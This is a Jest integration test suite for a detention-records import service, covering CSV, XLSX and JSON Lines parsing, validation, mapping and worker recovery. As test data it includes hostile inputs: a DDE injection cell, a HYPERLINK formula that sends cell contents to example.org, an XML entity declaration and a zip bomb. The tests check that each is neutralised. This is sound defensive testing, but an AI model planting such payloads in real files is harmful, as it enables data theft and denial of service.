import { readdirSync, readFileSync } from 'node:fs';
import { setTimeout } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals';
import type { ImportView } from '../../src/imports/import-view.js';
import {
  type Client,
  type ServiceProcess,
  signIn,
  startApplication,
  startWorkerProcess,
  type TestApplication,
} from '../support/application.js';
import { aSource } from '../support/builders.js';
import { begin, checkAndWait, rowsOf, sendBytes, untilItRests } from '../support/uploads.js';
import { workbook } from '../support/workbook-writer.js';
import { encoded } from '../support/written-files.js';
import { zipped } from '../support/zip-writer.js';

jest.setTimeout(180_000);

let app: TestApplication;
let client: Client;
let worker: ServiceProcess;
beforeAll(async () => {
  app = await startApplication({ worker: false });
  worker = await startWorkerProcess();
  client = await signIn(app.url, app.accounts[0]);
}, 60_000);
afterAll(async () => {
  await worker?.stop();
  await app?.stop();
});

/** A small list as one gets it: every kind of trouble once. */
const headings = ['No', 'full_name', 'sex', 'birth_date', 'notes'];
const dirty = [
  ['1', 'سامر أثرتست', 'ذكر', '1985', ''],
  ['2', 'Rana Athartest', 'perhaps', '31/02/1985', ''],
  ['3', '', 'male', '1970', ''],
  ['', '', '', '', ''],
  ['4', '=cmd|calc!A1 Athartest', '', '', '+963 "quoted", and more'],
  ['5', 'مجهول الهوية', '', '', ''],
  ['6', 'Omar Athartest', 'male', '1990', 'the same'],
  ['7', 'Omar Athartest', 'male', '1990', 'the same'],
];
const cell = (text: string) => (/[",\t;\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text);
const textOf = (rows: string[][], separator = ',') =>
  `${[headings, ...rows].map((row) => row.map(cell).join(separator)).join('\r\n')}\r\n`;
const csv = textOf(dirty);
const xlsx = workbook({
  sheets: [
    {
      name: 'List',
      rows: [headings, ...dirty].map((row) => row.map((text) => text || null)),
    },
  ],
});
const jsonLines = dirty
  .map((row) => headings.map((heading, at) => [heading, row[at]]).filter(([, text]) => text))
  .map((fields) => (fields.length === 0 ? '' : JSON.stringify(Object.fromEntries(fields))))
  .join('\n');

const records = async () =>
  (await app.dataSource.query('select count(*)::int as n from detention_records'))[0].n as number;
const text = async (path: string) => {
  const answer = await fetch(`${app.url}${path}`, { headers: { authorization: `Bearer ${client.token}` } });
  return { status: answer.status, headers: answer.headers, bytes: Buffer.from(await answer.arrayBuffer()) };
};

/** Sends a file and waits until somebody is asked what its columns mean, or it failed. */
async function inspected(bytes: string | Uint8Array, name = 'athartest.csv'): Promise<ImportView> {
  const content = Buffer.from(bytes as string);
  const id = await begin(client, content.length, { file: { name, bytes: content.length } });
  expect((await sendBytes(client, id, 0, content)).status).toBe(204);
  return untilItRests(app, client, id);
}

const seen = ({ revision }: ImportView) => ({ 'if-match': `"${revision}"` });
const put = (view: ImportView, what: 'choices' | 'mapping', body: object) =>
  client.send('PUT', `/v1/imports/${view.id}/${what}`, body, seen(view));

describe('a dirty little list', () => {
  it.each<[what: string, name: string, file: string | Uint8Array]>([
    ['CSV in UTF-8', 'list.csv', csv],
    ['CSV in UTF-16', 'list.csv', Buffer.from(`\ufeff${csv}`, 'utf16le')],
    ['CSV in Windows-1256 with semicolons', 'list.csv', encoded(textOf(dirty, ';'), 'windows-1256')],
    ['a workbook', 'list.xlsx', xlsx],
    ['JSON Lines', 'list.jsonl', jsonLines],
  ])('says the same as %s, row for row, and nothing of it is a record', async (_what, fileName, file) => {
    const before = await records();
    const checked = await checkAndWait(client, file, aSource(), { fileName });
    expect(checked.summary.rows).toMatchObject({ total: 7, rejected: 1, held: 1, ready: 5 });
    expect(checked.summary.versions).toEqual({ new: 5, changed: 0, unchanged: 0, older: 0, gone: 0 });
    const codes = checked.items.map(({ plan, problems }) => [plan, ...problems.map(({ code }) => code)].join(' '));
    expect(codes).toEqual([
      'ready',
      'ready sex.not_understood date.impossible',
      'rejected name.missing',
      expect.stringMatching(/^ready/),
      'held name.unidentified',
      'ready',
      'ready row.same_as',
    ]);
    expect(checked.items[0].cells.slice(0, 4)).toEqual(['1', 'سامر أثرتست', 'ذكر', '1985']);
    expect(await records()).toBe(before);
  });

  it('is counted by kind of problem, with the first rows of each, under the numbers of the spreadsheet', async () => {
    const { summary } = await checkAndWait(client, csv, aSource());
    expect(summary.rows).toMatchObject({ total: 7, ready: 5, held: 1, rejected: 1, blank: 1 });
    const groups = summary.problems.map(({ code, column, effect, rows, first_rows }) => [
      effect,
      code,
      column,
      rows,
      first_rows,
    ]);
    expect(groups).toEqual(
      expect.arrayContaining([
        ['rejected', 'name.missing', 'full_name', 1, [4]],
        ['held', 'name.unidentified', 'full_name', 1, [7]],
        ['warning', 'sex.not_understood', 'sex', 1, [3]],
        ['warning', 'date.impossible', 'birth_date', 1, [3]],
        ['warning', 'row.same_as', null, 1, [9]],
      ]),
    );
    expect(summary.problems.every(({ message }) => message.length > 20)).toBe(true);
    expect(summary.columns).toEqual(
      expect.arrayContaining([
        { heading: 'sex', field: 'sex', filled: 5, understood: 4 },
        { heading: 'full_name', field: 'full_name', filled: 6, understood: expect.any(Number) },
      ]),
    );
  });

  it('comes back with what is wrong, and no cell of that runs in a spreadsheet', async () => {
    const { id } = await checkAndWait(client, csv, aSource());
    const errors = await text(`/v1/imports/${id}/errors.csv`);
    expect(errors.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const lines = errors.bytes.toString('utf8').split('\r\n');
    expect(lines[0]).toBe('\ufeffrow,column,value,code,message');
    expect(lines).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^3,sex,perhaps,sex\.not_understood,/),
        expect.stringMatching(/^3,birth_date,31\/02\/1985,date\.impossible,/),
        expect.stringMatching(/^4,full_name,,name\.missing,/),
      ]),
    );
    const annotated = (await text(`/v1/imports/${id}/annotated`)).bytes.toString('utf8');
    const rows = annotated.split('\r\n');
    expect(rows[0]).toBe('\ufeffNo,full_name,sex,birth_date,notes,athar_result,athar_problems');
    expect(rows[1]).toBe('1,سامر أثرتست,ذكر,1985,,ready,');
    expect(rows).toHaveLength(9);
    expect(annotated).toContain(`'=cmd|calc!A1 Athartest,,,"'+963 ""quoted"", and more"`);
    expect(`${errors.bytes}${annotated}`).not.toMatch(/(^|,|\n)"?[=+@]/m);
    const sheet = await text(`/v1/imports/${id}/annotated?format=xlsx`);
    expect(sheet.bytes.subarray(0, 2).toString()).toBe('PK');
  });

  it('is the same list when it is sent again as it came back, in either format', async () => {
    const first = await checkAndWait(client, csv, aSource());
    const keys = async (id: string) =>
      (
        await app.dataSource.query(
          `select encode(content_digest, 'hex') as digest, encode(row_key, 'hex') as key from import_rows
           where import_id = $1 order by row_number`,
          [id],
        )
      ).map(({ digest, key }: { digest: string; key: string }) => `${digest} ${key}`);
    for (const [format, fileName] of [
      ['csv', 'again.csv'],
      ['xlsx', 'again.xlsx'],
    ]) {
      const { bytes } = await text(`/v1/imports/${first.id}/annotated?format=${format}`);
      const again = await checkAndWait(client, bytes, aSource(), { fileName });
      expect(await keys(again.id)).toEqual(await keys(first.id));
    }
  });
});

describe('what a person says', () => {
  it('of how a file is read stands instead of the guess, and of what a column means is checked anew', async () => {
    const view = await inspected(textOf(dirty).replace('full_name', 'who'));
    expect(view.inspection?.options).toMatchObject({ format: 'csv', encoding: 'utf-8', delimiter: ',' });
    expect(view.mapping_guess).toHaveLength(headings.length);
    const wrong = await put(view, 'choices', { delimiter: ';' });
    expect(wrong).toMatchObject({ status: 202, body: { state: 'inspecting', inspection: null } });
    const one = await untilItRests(app, client, view.id);
    expect(one.inspection?.columns).toHaveLength(1);
    expect(await put(view, 'choices', {})).toMatchObject({ status: 412, body: { code: 'precondition.failed' } });
    await put(one, 'choices', {});
    const back = await untilItRests(app, client, view.id);
    const mapping = (name: string, sex: string | null) => ({
      kind: 'detention_records',
      columns: ['No', 'who', 'sex', 'birth_date', 'notes'].map((heading) => ({
        heading,
        field: heading === 'who' ? name : heading === 'sex' ? sex : null,
      })),
    });
    expect(await put(back, 'mapping', mapping('notes', null))).toMatchObject({
      status: 422,
      body: { code: 'mapping.invalid', errors: [{ code: 'mapping.no_name' }] },
    });
    const preview = await client.post(`/v1/imports/${view.id}/mapping/preview`, mapping('full_name', 'sex'));
    expect(preview.status).toBe(200);
    expect(preview.body.rows[0]).toMatchObject({ row_number: 2, plan: 'ready', problems: [] });
    expect((await put(back, 'mapping', mapping('full_name', 'sex'))).status).toBe(202);
    const checked = await untilItRests(app, client, view.id);
    expect(checked).toMatchObject({ state: 'checked', summary: { rows: { ready: 5 } } });
    expect((await put(checked, 'mapping', mapping('full_name', null))).status).toBe(202);
    const again = await untilItRests(app, client, view.id);
    expect(again.summary?.problems.map(({ code }) => code)).not.toContain('sex.not_understood');
    expect(await rowsOf(client, view.id)).toHaveLength(7);
  });
});

describe('a file that cannot be read', () => {
  const doctype =
    '<?xml version="1.0"?><!DOCTYPE pfif [<!ENTITY a "b">]><pfif:pfif xmlns:pfif="http://zesty.ca/pfif/1.4"/>';
  const bomb = zipped([
    {
      name: '_rels/.rels',
      bytes: '<Relationships><Relationship Id="r" Type="x/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    },
    { name: 'xl/workbook.xml', bytes: `<workbook>${'<sheet/>'.repeat(4_000_000)}` },
  ]);
  const locked = Buffer.concat([
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    Buffer.alloc(2048),
    Buffer.from('EncryptedPackage', 'utf16le'),
    Buffer.alloc(2048),
  ]);

  it.each<[what: string, code: string, file: string | Uint8Array]>([
    ['with a DOCTYPE', 'file.doctype', doctype],
    ['that unpacks to far more than it is', 'file.packed_too_tightly', bomb],
    ['with a password', 'file.encrypted', locked],
    ['of JSON Lines that are all cut off', 'file.nothing_readable', '{"name": "Athartest\n{"name": "Athartest\n'],
  ])('%s fails with what to do, and the worker goes on', async (_what, code, file) => {
    const view = await inspected(file, 'list.xlsx');
    expect(view).toMatchObject({ state: 'failed', failure: { code }, inspection: null });
    expect(view.failure?.message).toMatch(/[.]$/);
    expect(view.source.sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(view.allowed).toEqual(['choose', 'cancel']);
  });

  it('for its formulas, links or text never runs anything: they are text', async () => {
    const evil = '=HYPERLINK("http://example.org?"&A1)';
    const { items } = await checkAndWait(
      client,
      `full_name,notes\nSamir Athartest,"${evil.replaceAll('"', '""')}"\n`,
      aSource(),
    );
    expect(items[0].cells[1]).toBe(evil);
  });

  it('because its parser was killed fails, and the worker lives and reads the next one', async () => {
    const long = Buffer.from(`full_name,notes\n${`Samir Athartest,${'x'.repeat(200)}\n`.repeat(60_000)}`);
    const id = await begin(client, long.length);
    for (let at = 0; at < long.length; at += 4_000_000)
      await sendBytes(client, id, at, long.subarray(at, at + 4_000_000));
    let killed = false;
    for (let waited = 0; waited < 400 && !killed; waited++) {
      for (const pid of parsersOf(worker.child.pid!)) killed = process.kill(pid, 'SIGKILL') || killed;
      if (!killed) await setTimeout(10);
    }
    expect(killed).toBe(true);
    expect(await untilItRests(app, client, id)).toMatchObject({ state: 'failed', failure: { code: 'parser.memory' } });
    expect(worker.child.exitCode).toBeNull();
    expect((await inspected(csv)).state).toBe('mapping');
  });
});

/** Parsing processes of a worker. */
function parsersOf(parent: number): number[] {
  return readdirSync('/proc').flatMap((name) => {
    try {
      if (!/^\d+$/.test(name) || !readFileSync(`/proc/${name}/status`, 'utf8').includes(`\nPPid:\t${parent}\n`))
        return [];
      return readFileSync(`/proc/${name}/cmdline`, 'utf8').includes('parser-child') ? [Number(name)] : [];
    } catch {
      return [];
    }
  });
}

describe('a worker that is killed in the middle of a check', () => {
  it('is followed by one that goes on behind what is staged, and the same stands there as if nothing had happened', async () => {
    const long = `full_name,notes\n${Array.from({ length: 12_000 }, (_, n) => `Samir Athartest ${n % 5000},note ${n % 7000}`).join('\n')}\n`;
    const undisturbed = await checkAndWait(client, long, aSource());
    const view = await inspected(long);
    expect((await put(view, 'mapping', undisturbed.mapping!)).status).toBe(202);
    const staged = async (): Promise<number> =>
      (await app.dataSource.query('select rows_staged from imports where id = $1', [view.id]))[0].rows_staged;
    const kept: number[] = [];
    for (let kill = 0; kill < 2; kill++) {
      const before = await staged();
      for (let waited = 0; waited < 1000 && (await staged()) <= before; waited++) await setTimeout(5);
      await worker.stop('SIGKILL');
      kept.push(await staged());
      worker = await startWorkerProcess();
    }
    const checked = await untilItRests(app, client, view.id);
    expect(checked.state).toBe('checked');
    expect(kept[0]).toBeGreaterThan(0);
    expect(kept[0]).toBeLessThan(12_000);
    const { same_file_as: _, ...summary } = undisturbed.summary;
    expect(checked.summary).toMatchObject(summary);
    const digest = async (id: string) =>
      (
        await app.dataSource.query(
          `select md5(string_agg(concat_ws('|', row_number, cells, plan, problems, understood, row_key, content_digest), E'\\n' order by row_number)) as d
           from import_rows where import_id = $1`,
          [id],
        )
      )[0].d;
    expect(await digest(view.id)).toBe(await digest(undisturbed.id));
  });
});
